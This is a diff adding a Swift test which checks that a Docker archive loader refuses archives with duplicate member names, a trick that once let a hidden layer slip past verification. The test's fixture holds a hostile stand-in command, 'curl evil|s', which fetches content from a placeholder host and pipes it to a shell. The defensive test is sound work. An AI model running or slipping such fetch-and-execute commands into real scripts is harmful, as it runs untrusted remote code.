@@ -199,6 +199,27 @@ import Testing
         }
     }
 
+    /// Two members with one name (a benign layer, then another of the same size): the scan used to
+    /// take either copy at random and `cat` read the other, past `--verify`. Refused, on a file and on
+    /// a stream, whether the layer or the manifest is repeated.
+    @Test(arguments: ["l0/layer.tar", "manifest.json"])
+    func duplicateMembersAreRefused(_ repeated: String) throws {
+        let benign = DockerArchiveBuilder.layer { $0.add("run.sh", data: Array("echo benign\n".utf8)) }
+        let other = DockerArchiveBuilder.layer { $0.add("run.sh", data: Array("curl evil|s\n".utf8)) }
+        var builder = DockerArchiveBuilder(layers: [benign])
+        builder.extra = { outer in outer.add(repeated, data: repeated == "manifest.json" ? Array("[]".utf8) : other) }
+        let archive = builder.build()
+        let expected = "two members are named '\(repeated)'; which copy counts is ambiguous, so the archive is refused"
+        #expect { try load(archive) } throws: { "\($0)".hasSuffix("hostile.tar: " + expected) }
+        let copy = UnsafeMutableRawBufferPointer.allocate(byteCount: archive.count, alignment: 1)
+        defer { copy.deallocate() }
+        copy.copyBytes(from: archive)
+        var given = false
+        let stream = ByteStream { defer { given = true }; return given ? UnsafeRawBufferPointer(start: nil, count: 0) : UnsafeRawBufferPointer(copy) }
+        #expect { try ImageLoader.load(OuterArchive(stream: stream, name: "-"), name: "standard input", options: LoadOptions()) { _ in .unavailable("") } }
+            throws: { "\($0)" == "standard input: " + expected }
+    }
+
     @Test func devZeroIsATarWithNoMembers() throws {
         #expect {
             try ImageLoader.load(path: "/dev/zero")
